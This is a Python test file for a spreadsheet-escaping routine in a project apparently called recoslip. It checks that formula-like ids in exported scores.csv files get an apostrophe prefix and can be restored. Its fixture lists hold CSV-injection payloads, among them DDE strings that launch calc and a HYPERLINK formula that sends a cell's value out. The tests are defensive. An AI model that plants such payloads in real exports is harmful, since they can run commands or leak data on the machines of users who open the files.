"""scores.csv in a spreadsheet: no id becomes a formula, numbers stay numbers, and every id can be restored."""

import csv
import re

import polars as pl
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from typer.testing import CliRunner

from recoslip.pipeline.saved import for_spreadsheets, from_spreadsheets
from recoslip.products.cli import app

FORMULAS = [
    "=1+1",
    "+1-1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(A1)",
    "=",
    "-",
    "+",
    "@",
    "－1+1",
    "＝1+1",
]
FORMULAS += ['=HYPERLINK("http://example.org?"&A1)', "=cmd|'/C calc'!A0", "'=1+1", "''", "-1e5+A1", "--1", "-A1"]
WITHIN = {"\t=1": "'\t'=1", "\r=1": "'\r'=1", "\n=1": "'\n'=1", "x;=1": "x;'=1", ";'": ";''"}
ESCAPED = {text: f"'{text}" for text in FORMULAS} | WITHIN
NO_FORMULAS = ["-7", "+7", "-0.5", "007", "12.5", "a=1", " =1", "naïve", "x'", "", "ключ"]


def escaped(ids):
    return for_spreadsheets(pl.DataFrame({"id": ids}, schema={"id": pl.String}))["id"]


def test_formulas_get_an_apostrophe_and_other_texts_stay():
    assert escaped(list(ESCAPED)).to_list() == list(ESCAPED.values())
    assert escaped(NO_FORMULAS).to_list() == NO_FORMULAS


@given(st.lists(st.text() | st.sampled_from([*ESCAPED, *NO_FORMULAS])))
@settings(deadline=None, database=None, derandomize=True, max_examples=300)
def test_every_id_is_restored_and_no_cell_that_it_may_be_split_into_is_a_formula(ids):
    assert from_spreadsheets(escaped(ids).to_frame())["id"].to_list() == ids
    cells = [cell for text in escaped(ids) if text not in NO_FORMULAS for cell in re.split(r"[;\t\r\n]", text)]
    assert not [cell for cell in cells if re.match(r"[=+\-@＝＋－＠](?![0-9.]*$)", cell)]


def test_numbers_and_missing_values_are_left_alone():
    table = pl.DataFrame({"id": [-1, 2, None], "score": [-0.5, 1e-9, None], "name": ["=1", None, "b"]})
    assert for_spreadsheets(table).select("id", "score").equals(table.select("id", "score"))
    assert for_spreadsheets(table)["name"].to_list() == ["'=1", None, "b"]


@pytest.mark.parametrize("file_format", ["csv", "parquet"])
def test_ids_that_detect_writes_can_be_joined_with_the_nodes(tmp_path, file_format):
    ids = [*ESCAPED, *(text for text in NO_FORMULAS if text)]
    nodes = pl.DataFrame({"id": ids, "domain": [k % 2 for k in range(len(ids))], "v": range(len(ids))})
    nodes.write_parquet(tmp_path / "nodes.parquet")
    arguments = ["detect", tmp_path / "nodes.parquet", "--out", tmp_path / "out", "--method", "lp-pul"]
    result = CliRunner().invoke(app, [*map(str, arguments), "--format", file_format, "--quiet", "--max-fpr", "0.5"])
    assert result.exit_code == 0, result.output
    if file_format == "parquet":
        assert set(pl.read_parquet(tmp_path / "out" / "scores.parquet")["id"]) == set(ids)  # unchanged
        return
    with (tmp_path / "out" / "scores.csv").open(encoding="utf-8", newline="") as file:
        cells = [row["id"] for row in csv.DictReader(file)]
    assert set(cells) == {ESCAPED.get(text, text) for text in ids}
    scores = pl.read_csv(tmp_path / "out" / "scores.csv", schema_overrides={"id": pl.String})
    assert from_spreadsheets(scores).join(nodes, on="id").height == len(ids)
